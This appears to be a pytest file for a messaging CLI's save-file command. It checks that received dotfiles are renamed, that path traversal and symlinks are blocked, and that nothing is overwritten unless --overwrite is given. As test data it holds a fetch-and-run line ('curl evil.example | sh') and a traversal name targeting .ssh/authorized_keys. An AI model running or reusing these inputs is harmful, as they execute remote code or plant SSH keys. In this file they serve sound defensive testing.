"""``save-file`` never replaces a file unasked, and never saves a hidden one.

A member sends a file called ``.bashrc``: saved into a directory (``save-file ROOM ID
~``), it lands as ``_.bashrc``, next to the reader's own ``.bashrc``, which stays as
it was; saving it again refuses to replace ``_.bashrc`` unless ``--overwrite`` says so.
"""

from __future__ import annotations

import asyncio
import json
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result

from backchannel.cli import cli
from backchannel.engine.actions import saved_name
from tests.conftest import RunningRelay

ENV = {
    "BACKCHANNEL_PASSPHRASE": "correct horse battery staple",
    "BACKCHANNEL_PROXY": None,
    "BACKCHANNEL_HOME": None,
}
EVIL = b"curl evil.example | sh\n"
MINE = "# my shell setup\n"


@pytest.fixture
def store_kind() -> str:
    return "sqlite"


def bc(home: Path, *args: str) -> Result:
    return CliRunner().invoke(cli, ["--home", str(home), *args], env=ENV, catch_exceptions=False)


async def ok(home: Path, *args: str) -> Any:
    result = await asyncio.to_thread(bc, home, "--json", *args)
    assert result.exit_code == 0, result.output
    return json.loads(result.stdout)


def test_saved_names() -> None:
    assert saved_name("minutes.pdf") == "minutes.pdf"
    assert saved_name(".bashrc") == "_.bashrc"
    assert saved_name("../../.ssh/authorized_keys") == "authorized_keys"
    assert saved_name("notes/.profile") == "_.profile"
    assert saved_name("..") == "_.."
    assert saved_name("") == saved_name("/") == "file"


async def test_a_dotfile_is_saved_visibly_and_nothing_is_overwritten(
    relay: RunningRelay, tmp_path: Path
) -> None:
    mallory, farida = tmp_path / "mallory", tmp_path / "farida"
    for home, name in ((mallory, "Mallory"), (farida, "Farida")):
        await ok(home, "init", "--name", name, "--relay", relay.url)
    room = (await ok(mallory, "room", "create", "Talks", "--approval", "auto"))["room"]
    await ok(farida, "join", (await ok(mallory, "room", "invite", room))["link"])
    await ok(mallory, "sync")
    await ok(farida, "sync")
    payload = tmp_path / "payload"
    payload.mkdir()
    (payload / ".bashrc").write_bytes(EVIL)
    sent = await ok(mallory, "send-file", room, str(payload / ".bashrc"))
    await ok(farida, "sync")

    home = tmp_path / "home"
    home.mkdir()
    (home / ".bashrc").write_text(MINE)
    saved = await ok(farida, "save-file", room, sent["id"], str(home))
    assert saved["path"] == str(home / "_.bashrc")
    assert (home / "_.bashrc").read_bytes() == EVIL
    assert (home / ".bashrc").read_text() == MINE

    # again: the file it would write exists, so it refuses and changes nothing
    (home / "_.bashrc").write_text("edited since\n")
    for dest in (home, home / ".bashrc"):
        again = await asyncio.to_thread(bc, farida, "save-file", room, sent["id"], str(dest))
        assert again.exit_code == 1 and again.stdout == ""
        assert "exists already" in again.stderr and "--overwrite" in again.stderr
    assert (home / "_.bashrc").read_text() == "edited since\n"
    assert (home / ".bashrc").read_text() == MINE

    # a link where the file would go is not followed either
    (home / "link").symlink_to(home / ".bashrc")
    linked = await asyncio.to_thread(bc, farida, "save-file", room, sent["id"], str(home / "link"))
    assert linked.exit_code == 1
    assert (home / ".bashrc").read_text() == MINE

    # asked for: replaced
    await ok(farida, "save-file", room, sent["id"], str(home), "--overwrite")
    assert (home / "_.bashrc").read_bytes() == EVIL
    assert sorted(p.name for p in home.iterdir()) == [".bashrc", "_.bashrc", "link"]
